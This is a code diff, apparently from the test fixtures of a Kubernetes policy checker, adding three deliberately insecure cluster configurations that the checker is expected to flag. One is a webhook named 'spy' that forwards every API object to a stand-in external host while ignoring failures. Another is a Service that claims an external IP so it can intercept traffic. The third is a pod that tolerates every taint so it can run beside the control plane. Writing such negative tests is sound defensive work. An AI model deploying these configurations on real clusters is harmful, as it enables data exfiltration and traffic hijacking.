@@ -515,4 +515,45 @@ export const BAD_STACKS: readonly BadStack[] = [
     found: /verbs: impersonate/,
     objects: () => [clusterRole("reader", ["users"], "impersonate")],
   },
+  {
+    number: 51,
+    title: "a webhook that sends every object out of the cluster",
+    policy: "api-server-callbacks",
+    found: /url hooks\.example, failurePolicy Ignore/,
+    objects: () => [
+      stampLabels(
+        {
+          apiVersion: "admissionregistration.k8s.io/v1",
+          kind: "ValidatingWebhookConfiguration",
+          metadata: { name: "spy" },
+          webhooks: [
+            {
+              ...{ name: "spy.hooks.example", admissionReviewVersions: ["v1"], sideEffects: "None" },
+              clientConfig: { url: "https://hooks.example/all" },
+              failurePolicy: "Ignore",
+            },
+          ],
+        },
+        "bad",
+      ),
+    ],
+  },
+  {
+    number: 52,
+    title: "a Service that takes the traffic of an address",
+    policy: "traffic-of-others",
+    found: /externalIPs 192\.0\.2\.1/,
+    objects: (good) =>
+      good.with(patched(good.get("Service", "gateway"), ["spec", "externalIPs"], ["192.0.2.1"])),
+  },
+  {
+    number: 53,
+    title: "a gateway beside the control plane",
+    policy: "scheduling",
+    found: /tolerations \[\{"operator":"Exists"\}\]/,
+    objects: (good) =>
+      good.with(
+        patched(good.get("StatefulSet", "gateway"), [...POD, "tolerations"], [{ operator: "Exists" }]),
+      ),
+  },
 ];
